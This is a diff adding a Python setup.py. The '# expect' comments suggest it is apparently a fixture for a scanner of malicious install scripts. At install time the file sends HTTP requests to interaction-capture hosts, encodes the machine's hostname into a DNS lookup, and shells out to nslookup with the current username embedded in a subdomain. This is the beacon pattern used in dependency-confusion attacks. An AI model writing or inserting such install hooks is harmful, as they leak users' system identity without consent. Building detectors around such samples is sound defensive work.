@@ -1,0 +1,15 @@
+# file: setup.py
+import base64
+import os
+import socket
+import urllib.request
+import requests
+from setuptools import setup
+
+requests.get("https://abc.oast.fun/install")  # expect
+request = urllib.request.Request("https://webhook.site/0", data=b"x")
+urllib.request.urlopen(request)  # expect
+name = socket.gethostname().encode().hex()
+socket.gethostbyname(name + ".d.collect.invalid")  # expect
+os.system("nslookup $(whoami).abc.oastify.com")  # expect
+setup(name="sample")
